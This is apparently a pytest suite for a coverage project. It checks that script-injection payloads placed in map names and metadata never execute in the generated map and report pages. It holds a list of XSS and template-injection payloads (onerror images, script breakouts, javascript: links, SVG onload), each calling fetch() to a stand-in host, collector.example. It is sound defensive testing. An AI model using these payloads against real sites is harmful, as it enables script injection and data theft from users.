"""Names that try to run a script, in every place of the map that shows a name. None may run, with or without a policy.

The sinks are those of docs/reliability.md: popup and tooltip strings, ends of scripts, template literals, GeoJSON popup
and tooltip fields, labels, layer names, backticks, unopened properties; and our own: titles, banner, legend, credits.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from types import ModuleType

import pytest

from coverage.report.map_page import build_map_page
from coverage.runs.result import RunResult

from .conftest import Watched, served

MARK = "window.top.ran = (window.top.ran || 0) + 1; alert('ran'); fetch('http://collector.example/x')"
PAYLOADS = {
    "element": f'<img src=x onerror="{MARK}">',
    "script": f"<script>{MARK}</script>",
    "end of script": f"</script><script>{MARK}</script>",
    "template literal": f"${{(() => {{ {MARK} }})()}}",
    "backtick": f"`; {MARK}; `",
    "quote": f"'); {MARK}; //",
    "double quote": f'"); {MARK}; //',
    "jinja": "{{ ''.__class__.__mro__ }}{% for x in [] %}",
    "svg": f'<svg onload="{MARK}">',
    "link": f'<a href="javascript:{MARK}" autofocus onfocus="{MARK}">x</a>',
    "comment": f'<!--><img src=x onerror="{MARK}">-->',
    "line separator": f"\u2028{MARK}\u2029//",
}


def _poke(watched: Watched) -> None:
    """Open everything that can be opened: popups of every kind, every surface, every operator, every year."""
    page = watched.page
    page.wait_for_selector("body[data-ready]", timeout=20_000)
    for value in ("signal", "none", "people"):
        page.check(f"input[name=surface][value={value}]")
    page.check("input[type=checkbox][value=districts]")
    page.check("input[type=checkbox][value=off]")
    for pane in ("land", "areas", "districts"):
        for path in page.locator(f".leaflet-{pane}-pane path").all():
            path.dispatch_event("click")
            page.keyboard.press("Escape")
    box = page.locator("#map").bounding_box()
    assert box is not None
    for x in range(40, int(box["width"]), 150):
        for y in range(40, int(box["height"]), 120):
            page.mouse.click(box["x"] + x, box["y"] + y)
    for name in ("alpha", "beta", "any"):
        page.check(f"input[name=operator][value={name}]")
    page.focus("#year")
    page.keyboard.press("Home")
    page.wait_for_timeout(300)


def _verdict(watched: Watched) -> tuple[int, list[str], list[str]]:
    return int(watched.page.evaluate("window.top.ran || 0")), watched.dialogs, watched.outside


GROUPS = [tuple(PAYLOADS)[k::4] for k in range(4)]


@pytest.mark.parametrize("kinds", GROUPS, ids="+".join)
def test_a_hostile_name_never_runs_even_without_a_policy(
    open_page: Callable[..., Watched], tmp_path: Path, synthetic: ModuleType, kinds: tuple[str, ...]
) -> None:
    text = "県 " + " ".join(PAYLOADS[kind] for kind in kinds)
    run = RunResult.open(
        synthetic.write_synthetic_run(tmp_path, name=text, meta_text=text, computable="svg" not in kinds)
    )
    (tmp_path / "map.html").write_text(build_map_page(run, plans=True), encoding="utf-8")
    watched = open_page()
    watched.page.goto((tmp_path / "map.html").as_uri())
    _poke(watched)
    assert _verdict(watched) == (0, [], [])
    assert watched.faults == []
    assert watched.page.inner_text("#head h1").startswith(text[:20])


def test_the_trap_would_close_on_a_script_that_runs(
    open_page: Callable[..., Watched], tmp_path: Path
) -> None:
    (tmp_path / "naive.html").write_text(f"<body data-ready>{PAYLOADS['element']}</body>", encoding="utf-8")
    watched = open_page()
    watched.page.goto((tmp_path / "naive.html").as_uri())
    watched.page.wait_for_timeout(500)
    ran, dialogs, outside = _verdict(watched)
    assert ran == 1
    assert dialogs == ["ran"]
    assert outside == ["http://collector.example/x"]


def test_hostile_names_run_nothing_on_the_pages_either(
    open_page: Callable[..., Watched], tmp_path: Path, synthetic: ModuleType
) -> None:
    text = (
        PAYLOADS["element"]
        + PAYLOADS["end of script"]
        + PAYLOADS["template literal"]
        + "[x](javascript:alert(1)) $x^2$ :material/x:"
    )
    synthetic.write_synthetic_run(tmp_path, name=text, meta_text=text, computable=False)
    with served(tmp_path) as base:
        watched = open_page()
        for page in ("", "map", "progress", "indicators", "data"):
            watched.page.goto(f"{base}/{page}")
            watched.page.wait_for_selector(".foot", timeout=40_000)
            watched.page.wait_for_timeout(1500)
            assert _verdict(watched) == (0, [], []), page
